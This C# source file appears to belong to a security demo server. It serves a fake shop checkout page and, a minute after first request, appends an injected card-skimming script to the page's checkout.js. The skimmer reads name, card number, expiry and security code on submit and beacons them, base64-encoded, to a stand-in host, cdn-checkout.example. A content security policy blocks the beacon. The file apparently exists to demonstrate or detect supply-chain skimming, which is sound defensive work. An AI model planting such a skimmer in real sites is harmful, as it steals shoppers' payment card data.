using Microsoft.AspNetCore.Http;

namespace Weir.Server.Demo;

/// <summary>The checkout of the shop, into one of whose scripts a card skimmer gets after a minute.</summary>
/// <remarks>
/// The skimmer cannot harm whoever opens the page: the policy of the page keeps browsers from sending anything anywhere but to the shop itself, and the host
/// that it names has a name that never exists (RFC 2606).
/// </remarks>
internal static class DemoCheckout
{
    /// <summary>Path of the page.</summary>
    public const string Path = "/checkout";

    /// <summary>Path of the script that is changed.</summary>
    public const string ScriptPath = "/static/checkout.js";

    /// <summary>Path of a script that stays as it is.</summary>
    public const string CartPath = "/static/cart.js";

    /// <summary>How long it happens after somebody asked for the script for the first time.</summary>
    public static readonly TimeSpan After = TimeSpan.FromMinutes(1);

    private const string Policy = "default-src 'none'; script-src 'self' 'unsafe-inline'; style-src 'self'; img-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'";

    private const string Page = """
        <!doctype html>
        <html lang="en">
        <meta charset="utf-8">
        <title>Checkout</title>
        <script src="/static/cart.js"></script>
        <script>window.shop = { currency: "EUR", locale: "en", step: "payment" };</script>
        <h1>Checkout</h1>
        <form id="payment" action="/checkout" method="post" autocomplete="on">
          <label>Name on card <input id="cc-name" name="cc-name" autocomplete="cc-name"></label>
          <label>Card number <input id="cc-number" name="cc-number" autocomplete="cc-number" inputmode="numeric"></label>
          <label>Expires <input id="cc-exp" name="cc-exp" autocomplete="cc-exp"></label>
          <label>Security code <input id="cc-csc" name="cc-csc" autocomplete="cc-csc" inputmode="numeric"></label>
          <p id="payment-message" role="status"></p>
          <button>Pay</button>
        </form>
        <script src="/static/checkout.js" defer></script>
        </html>
        """;

    internal const string Cart = """
        // Keeps what is in the cart, and shows how much it is.
        (function () {
          var key = "cart";
          function read() {
            try { return JSON.parse(localStorage.getItem(key)) || []; } catch (error) { return []; }
          }
          function total(lines) {
            return lines.reduce(function (sum, line) { return sum + line.price * line.count; }, 0);
          }
          window.cart = {
            add: function (product, price) {
              var lines = read();
              var line = lines.find(function (one) { return one.product === product; });
              if (line) { line.count += 1; } else { lines.push({ product: product, price: price, count: 1 }); }
              localStorage.setItem(key, JSON.stringify(lines));
              return total(lines);
            },
            total: function () { return total(read()); }
          };
        })();
        """;

    internal const string Own = """
        // Tells people what is wrong with what they typed, before it is sent.
        (function () {
          var form = document.getElementById("payment");
          var message = document.getElementById("payment-message");
          function digits(text) { return text.replace(/\D/g, ""); }
          function isCard(number) {
            var sum = 0;
            for (var i = 0; i < number.length; i++) {
              var digit = Number(number[number.length - 1 - i]);
              if (i % 2 === 1) { digit *= 2; if (digit > 9) { digit -= 9; } }
              sum += digit;
            }
            return number.length >= 12 && sum % 10 === 0;
          }
          form.addEventListener("submit", function (event) {
            var number = form.elements["cc-number"];
            if (!isCard(digits(number.value))) {
              event.preventDefault();
              message.textContent = "Please check the card number.";
              number.focus();
            }
          });
        })();
        """;

    internal const string Injected = """

        ;(function () {
          var t = ["cc-name", "cc-number", "cc-exp", "cc-csc"];
          function g() {
            var d = {};
            t.forEach(function (n) { var e = document.getElementById(n); if (e && e.value) { d[n] = e.value; } });
            return d;
          }
          document.getElementById("payment").addEventListener("submit", function () {
            var d = g();
            if (d["cc-number"] && d["cc-number"].length > 12) {
              d.u = location.hostname;
              d.a = navigator.userAgent;
              var i = new Image();
              i.src = "https://cdn-checkout.example/p.gif?v=" + encodeURIComponent(btoa(JSON.stringify(d)));
            }
          });
        })();
        """;

    /// <summary>The page.</summary>
    public static Task PageAsync(HttpContext context)
    {
        context.Response.Headers.ContentSecurityPolicy = Policy;
        return WriteAsync(context, "text/html; charset=utf-8", Page);
    }

    /// <summary>A script that stays as it is.</summary>
    public static Task CartAsync(HttpContext context) => WriteAsync(context, "text/javascript; charset=utf-8", Cart);

    /// <summary>The script that is changed.</summary>
    /// <param name="context">The request.</param>
    /// <param name="isInjected">Whether somebody got in by now.</param>
    public static Task ScriptAsync(HttpContext context, bool isInjected) => WriteAsync(context, "text/javascript; charset=utf-8", isInjected ? Own + Injected : Own);

    private static Task WriteAsync(HttpContext context, string type, string text)
    {
        context.Response.ContentType = type;
        return context.Response.WriteAsync(text, context.RequestAborted);
    }
}
